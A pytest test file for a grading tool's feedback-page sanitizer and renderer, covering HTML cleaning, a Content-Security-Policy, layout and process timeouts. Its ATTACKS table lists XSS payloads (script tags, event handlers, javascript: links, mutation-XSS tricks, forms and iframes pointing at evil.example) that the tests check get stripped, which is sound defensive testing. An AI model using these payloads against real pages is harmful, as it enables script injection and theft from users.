"""Feedback pages: harmless whatever a trainee put into them, and still showing the work."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from grader.cleaning import PageTooCostly, clean_elsewhere
from grader.errors import EngineFault
from grader.feedback import POLICY, clean_page, refusal_page, unrendered_page
from grader.rendering import Renderer
from tests.chromium import chromium
from tests.grader.pages import Tags, active_parts

PICTURE = "data:image/png;base64,iVBORw0KGgo="


def cleaned(body: str) -> str:
    page = clean_page(f"<html><head><title>t</title><script>x</script></head><body>{body}</body></html>")
    return page.partition("<body>")[2].rpartition("</body>")[0]


ATTACKS = {
    "script": "<script>steal()</script>",
    "script in svg": "<svg><script>steal()</script></svg>",
    "script with type": "<script type=module>steal()</script>",
    "onerror": "<img src=x onerror=steal()>",
    "onload": "<body onload=steal()><svg onload=steal()>",
    "handler in a table": "<table onclick=steal()><td onmouseover='steal()'>x</td></table>",
    "javascript link": "<a href='javascript:steal()'>x</a>",
    "javascript link in pieces": "<a href='java\nscript:steal()'>x</a><a href=' &#106;avascript:steal()'>x</a>",
    "data link": "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "vbscript": "<a href='vbscript:steal()'>x</a>",
    "iframe": "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>steal()</script>'></iframe>",
    "object": "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "form": "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'>",
    "link": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "style": "<style>body{background:url(https://evil.example)}</style><p style='background:url(//evil.example)'>x</p>",
    "remote picture": "<img src='https://evil.example/spy.png'><img src='//evil.example' srcset='//evil.example 2x'>",
    "svg picture": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "video": "<video src='https://evil.example' poster='https://evil.example'></video>",
    "math": "<math><mtext><mglyph><style><img src=x onerror=steal()></style></mglyph></mtext></math>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "comment": "<!--><img src=x onerror=steal()>-->",
    "second head": "</body><head><script>steal()</script></head><body>",
    "template": "<template><script>steal()</script></template>",
    "title": "<title><img src=x onerror=steal()></title>",
    "textarea": "<textarea><img src=x onerror=steal()></textarea>",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_nothing_on_a_page_can_run_or_call_home(attack: str) -> None:
    page = cleaned(f"{attack}<p>그대로</p>")
    assert active_parts(page) == []
    assert "그대로" in page


def test_a_page_says_what_a_browser_may_do_with_it() -> None:
    """Should the cleaning miss something: no script, no request, no form, whatever the body holds."""
    page = clean_page("<html><body>x</body></html>")
    assert f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">' in page.partition("<title>")[0]
    policy = dict(part.strip().split(" ", 1) for part in POLICY.split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["img-src"] == "data:"
    assert policy["base-uri"] == policy["form-action"] == "'none'"
    assert "script-src" not in policy


def test_plots_tables_and_code_stay() -> None:
    body = (
        f'<img src="{PICTURE}" width="300" alt="배치 13"><table class="dataframe"><tr><th scope="col">온도</th>'
        '<td colspan="2">71.5</td></tr></table><pre><span class="k">def</span> f(): pass</pre>'
        '<h2>과제 1</h2><ul><li>하나</li></ul><a href="#t1-visible">위로</a><a name="t1-visible"></a>'
    )
    page = cleaned(body)
    tags = Tags(page).seen
    assert ("img", {"src": PICTURE, "width": "300", "alt": "배치 13"}) in tags
    assert ("td", {"colspan": "2"}) in tags
    assert ("span", {"class": "k"}) in tags
    assert [attributes.get("href") for tag, attributes in tags if tag == "a"] == ["#t1-visible", None]
    for word in ("온도", "71.5", "과제 1", "하나", "위로"):
        assert word in page


TASKS = """<table class="tasks"><tr><th>Task</th><th>Points</th><th>Checks</th></tr><tr>
<td class="task">Task 6. Compare <a href="#t6">preprocessing</a></td><td class="points">0 / 15 points</td>
<td class="checks"><a class="state-waiting" href="#t6">waits for a mark</a> <a href="#t6">not passed</a></td>
</tr></table>"""
WIDE_TABLE = f"<table><tr>{'<td>12,345.678</td>' * 30}</tr></table>"


def test_a_narrow_window_shows_all_of_a_page() -> None:
    """A wide table of a cell's output or text moves within its cell; nothing else moves sideways or is cut off."""
    body = (
        f'<div class="container"><div class="panel"><div class="panel-body">{TASKS}</div></div>'
        f'<div class="panel"><div class="output_wrapper"><div class="output_subarea">{WIDE_TABLE}</div></div></div>'
        f'<div class="text_cell_render">{WIDE_TABLE}</div></div>'
    )
    page = clean_page(f"<html><head><title>t</title></head><body>{body}</body></html>")
    with chromium() as browser:
        shown = browser.new_page(viewport={"width": 360, "height": 800})
        shown.set_content(page)
        sizes = shown.evaluate(
            "[...document.querySelectorAll('html, .panel')].map(part => [part.scrollWidth, part.clientWidth])"
        )
        moved = shown.evaluate("document.querySelector('.output_subarea').scrollWidth")
    assert len(sizes) == 3
    assert all(needed <= has for needed, has in sizes), sizes
    assert moved > 1000


def test_links_to_other_sites_tell_them_nothing() -> None:
    (link,) = [attributes for tag, attributes in Tags(cleaned("<a href='https://www.kaist.ac.kr'>x</a>")).seen]
    assert link == {"href": "https://www.kaist.ac.kr", "rel": "noopener noreferrer"}


def test_the_title_is_text() -> None:
    page = clean_page("<html><head><title>golden &lt;script&gt; 배치</title></head><body></body></html>")
    assert "<title>golden &lt;script&gt; 배치</title>" in page
    assert "<title>Feedback</title>" in clean_page("<p>x</p>")


def test_cleaning_a_page_again_changes_nothing() -> None:
    page = clean_page(f"<html><head><title>t</title></head><body><p>한글 & < ></p><img src='{PICTURE}'></body></html>")
    assert clean_page(page) == page


def test_a_refused_file_is_told_why_in_both_languages() -> None:
    page = refusal_page("golden_batch", "노트북 파일이 아닙니다. <b> / not a notebook")
    assert "0점으로 기록됩니다" in page
    assert "counts 0 points" in page
    assert "&lt;b&gt;" in page
    assert POLICY in page


def test_a_page_that_can_not_be_shown_says_that_the_scores_stand() -> None:
    assert "점수는" in unrendered_page("x")
    assert "scores stand" in unrendered_page("x")


# --- what a page may cost --------------------------------------------------------------------------------------------


def test_a_page_is_cleaned_elsewhere_as_here() -> None:
    page = "<html><head><title>한글</title></head><body><script>x</script><p>배치</p></body></html>"
    assert clean_elsewhere(page) == clean_page(page)


def test_html_nested_without_end_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("grader.cleaning.WAIT_SECONDS", 2)
    with pytest.raises(PageTooCostly):
        clean_elsewhere("<html><body>" + "<div>" * 300_000)


@pytest.fixture
def renderer() -> Iterator[Renderer]:
    """Makes a page by calling what it is given, which stands in this module."""
    renderer = Renderer(lambda make: str(make()))
    yield renderer
    renderer.close()


def forever() -> str:
    while True:
        time.time()


def broken() -> str:
    raise LookupError("the template is missing")


def long_page() -> str:
    return "가나다" * 1_000_000


def process() -> str:
    return str(os.getpid())


def busy_page() -> str:
    until = time.process_time() + 0.7
    while time.process_time() < until:
        time.time()
    return "made"


def killed() -> str:
    os.kill(os.getpid(), signal.SIGTERM)
    return "it lived on"


def test_a_page_that_takes_too_long_to_make_is_given_up_and_the_next_one_is_made(renderer: Renderer) -> None:
    assert renderer.page(forever, cpu_seconds=1) is None
    assert renderer.page(long_page, cpu_seconds=5) == long_page()


def test_processor_time_is_counted_by_the_page(renderer: Renderer) -> None:
    assert [renderer.page(busy_page, cpu_seconds=1) for _ in range(3)] == ["made"] * 3


def test_what_goes_wrong_while_rendering_is_our_fault_and_says_what(renderer: Renderer) -> None:
    with pytest.raises(EngineFault, match="LookupError: the template is missing"):
        renderer.page(broken)
    with pytest.raises(EngineFault, match="its process ended"):
        renderer.page(killed)
    assert renderer.page(long_page) == long_page()


def test_pages_are_made_in_one_process_until_it_is_old(renderer: Renderer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("grader.rendering.PAGES_OF_A_CHILD", 2)
    first, second, third = (renderer.page(process) for _ in range(3))
    assert first == second != third


def test_the_process_that_makes_pages_ends_with_the_one_that_started_it() -> None:
    program = textwrap.dedent("""
        import os, time
        from grader.rendering import Renderer
        renderer = Renderer(lambda given: str(os.getpid()))
        print(renderer.page(None), flush=True)
        time.sleep(60)  # it is killed before
    """)
    with subprocess.Popen([sys.executable, "-c", program], stdout=subprocess.PIPE, text=True) as parent:
        assert parent.stdout is not None
        child = int(parent.stdout.readline())
        os.kill(child, 0)
        parent.kill()
        parent.wait()
        # It holds no end of the parent's output: that has ended, too.
        assert parent.stdout.read() == ""
    deadline = time.monotonic() + 20
    while Path(f"/proc/{child}").exists() and "(zombie)" not in Path(f"/proc/{child}/status").read_text():
        assert time.monotonic() < deadline, "the child lives on"
        time.sleep(0.05)  # the end of a process that is not our child tells nobody
